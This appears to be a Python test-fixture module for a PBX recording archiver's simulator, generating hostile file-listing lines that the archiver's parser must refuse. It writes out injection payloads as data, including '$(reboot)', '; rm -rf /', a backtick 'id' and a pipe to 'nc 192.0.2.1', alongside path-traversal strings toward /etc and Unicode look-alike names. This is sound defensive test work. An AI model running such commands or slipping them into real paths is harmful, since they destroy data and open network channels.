"""Hostile listing lines: what a broken or compromised PBX might print among real recordings.

`hostile_body` mixes `count` such lines into a real listing: path traversal, shell
metacharacters, control characters, Unicode look-alikes of real names, 10 kB lines, blank lines,
CRLF line ends and a byte-order mark. Every hostile line is one that a correct archiver must
refuse (none of them is a valid recording path, even after stripping blanks), and each is
distinct within its first 100 characters, so "logged once per name" is countable. Built from a
seed: the same listing, the same lines.

Like the rest of the simulator this does not use `archiver.names`: it is that parser's oracle.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

from archiver.lab.simulator.corpus import RECORDING_DIR

__all__ = ["KINDS", "hostile_body", "hostile_lines"]

_BOM = "\ufeff"
# Built from code points: the look-alike characters themselves would hide in the source.
_FULLWIDTH = str.maketrans("0123456789", "".join(chr(0xFF10 + d) for d in range(10)))
_ARABIC_INDIC = str.maketrans("0123456789", "".join(chr(0x0660 + d) for d in range(10)))
# Look-alikes for every letter and digit of the extensions gsm, wav, WAV and wav49.
_HOMOGLYPHS = str.maketrans(
    {
        "a": "\u0430", "s": "\u0455", "g": "\u0261", "m": "\u217f", "w": "\u0461",
        "v": "\u0475", "W": "\u051c", "A": "\u0410", "V": "\u0474", "4": "\u0664",
        "9": "\u0669",
    }
)  # fmt: skip
_UNICODE_HYPHEN = "\u2010"
_FALLBACK_NAME = "20161118-110332-100-903123320404-1479456211.1297-42.wav"
_FALLBACK_FOLDER = "trunk-sip-903123320404"


def _split(example: str) -> tuple[str, str]:
    """(folder, name) of a listed path, or a fixed pair when it is not one."""
    parts = example.removeprefix(f"{RECORDING_DIR}/").split("/")
    if len(parts) == 2 and all(parts):
        return parts[0], parts[1]
    return _FALLBACK_FOLDER, _FALLBACK_NAME


def _traversal(i: int, folder: str, name: str) -> str:
    return [
        f"{RECORDING_DIR}/../../../../etc/{i}/{name}",
        f"{RECORDING_DIR}/{folder}/../../{i}/{name}",
        f"../../{i}/{folder}/{name}",
        f"{RECORDING_DIR}/{folder}/..%2f..%2f{i}{name}",
        f"{RECORDING_DIR}/{folder}/{i}/../{name}",
        f"{RECORDING_DIR}/..\\..\\{i}\\{name}",
    ][i % 6]


def _shell(i: int, folder: str, name: str) -> str:
    stem = name.rsplit(".", 1)[0]
    return [
        f"{RECORDING_DIR}/{folder}/{stem}-$(reboot){i}.wav",
        f"{RECORDING_DIR}/{folder}/{name}; rm -rf / #{i}",
        f"{RECORDING_DIR}/{folder}/`id`{i}{name}",
        f"{RECORDING_DIR}/{folder}/{name}|nc 192.0.2.1 {i}",
        f"{RECORDING_DIR}/{folder}/{i}&&{name}",
        f"{RECORDING_DIR}/{folder}/{name}>{i}",
        f"{RECORDING_DIR}/{folder} {i}/{name}",
        f"{RECORDING_DIR}/{folder}/*{i}*{name}",
    ][i % 8]


def _control(i: int, folder: str, name: str) -> str:
    char = ["\x00", "\x1b[2J", "\t", "\x7f", "\r", "\x0b", "\x0c", "\x08", "\x85", "\u2028"][i % 10]
    return f"{RECORDING_DIR}/{folder}/{i}{char}{name}"


def _lookalike(i: int, folder: str, name: str) -> str:
    stem, _, ext = name.rpartition(".")
    # The index goes into the (otherwise valid) folder so that every line is its own name and
    # the look-alike is the only thing wrong with it.
    base = f"{RECORDING_DIR}/{folder}{i}"
    return [
        f"{base}/{name.translate(_FULLWIDTH)}",
        f"{base}/{name.translate(_ARABIC_INDIC)}",
        f"{base}/{stem}.{ext.translate(_HOMOGLYPHS)}",  # Cyrillic and other look-alikes
        f"{base}\u2215{name}",  # division slash
        f"{base}/\u200b{name}",  # zero-width space
        f"{base}/\u202e{name}",  # right-to-left override
        f"{base}/{stem}\uff0e{ext}",  # fullwidth full stop
        f"{base}/{name.replace('-', _UNICODE_HYPHEN)}",  # Unicode hyphen
    ][i % 8]


def _long(i: int, folder: str, name: str) -> str:
    return f"{RECORDING_DIR}/{folder}/{i}-{name}" + "9" * 10_240


KINDS: dict[str, Callable[[int, str, str], str]] = {
    "traversal": _traversal,
    "shell": _shell,
    "control": _control,
    "lookalike": _lookalike,
    "long": _long,
}


def hostile_lines(count: int, seed: int, examples: Sequence[str] = ()) -> list[str]:
    """Return `count` distinct hostile lines (about a tenth blank), built from real `examples`.

    Blank lines are empty or whitespace only; every other line is printable garbage or a real
    name with one hostile change, never a valid path.
    """
    rng = random.Random(f"archiver-sim:{seed}:hostile")
    kinds = list(KINDS.values())
    lines: list[str] = []
    for i in range(count):
        if i % 10 == 9:
            lines.append(rng.choice(["", " ", "\t", "   "]))
            continue
        folder, name = _split(rng.choice(examples) if examples else "")
        lines.append(kinds[i % len(kinds)](i, folder, name))
    return lines


def hostile_body(lines: Sequence[str], count: int, seed: int) -> bytes:
    """Return the listing `lines` with `count` hostile lines shuffled in, as the PBX would send
    it: a BOM first, every third line ended by CRLF, the rest by LF. Real lines keep their order.
    """
    rng = random.Random(f"archiver-sim:{seed}:hostile-mix:{len(lines)}")
    mixed: list[str] = list(lines)
    for line in hostile_lines(count, seed, [line for line in lines if "/" in line]):
        mixed.insert(rng.randint(0, len(mixed)), line)
    out = [f"{line}\r\n" if n % 3 == 2 else f"{line}\n" for n, line in enumerate(mixed)]
    return (_BOM + "".join(out)).encode("utf-8")
